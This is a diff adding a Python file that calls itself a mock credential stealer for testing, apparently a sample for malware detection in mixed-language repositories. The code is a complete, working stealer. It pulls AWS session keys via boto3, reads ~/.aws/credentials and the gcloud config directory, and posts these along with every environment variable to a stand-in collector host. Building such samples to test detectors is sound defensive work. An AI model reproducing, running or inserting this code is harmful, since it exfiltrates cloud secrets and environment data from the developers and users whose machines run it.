@@ -0,0 +1,35 @@
+# MOCK malicious Python helper - FOR TESTING ONLY
+# Gathers cloud credentials the way a stealer bundled into a mixed-language repo would
+import json
+import os
+from pathlib import Path
+
+import boto3
+import requests
+
+ENDPOINT = "https://collector.example.net/upload"
+
+
+def aws_keys():
+    creds = boto3.Session().get_frozen_credentials()
+    return {"key": creds.access_key, "secret": creds.secret_key}
+
+
+def credential_files():
+    found = {}
+    aws = Path.home() / ".aws" / "credentials"
+    gcloud = os.path.join(os.path.expanduser("~"), ".config", "gcloud")
+    for path in (aws, gcloud):
+        if os.path.exists(path):
+            found[str(path)] = open(path).read() if os.path.isfile(path) else os.listdir(path)
+    return found
+
+
+def main():
+    payload = json.dumps(dict(os.environ))
+    requests.post(ENDPOINT, data=payload, timeout=5)
+    requests.post(ENDPOINT, json={"aws": aws_keys(), "files": credential_files()}, timeout=5)
+
+
+if __name__ == "__main__":
+    main()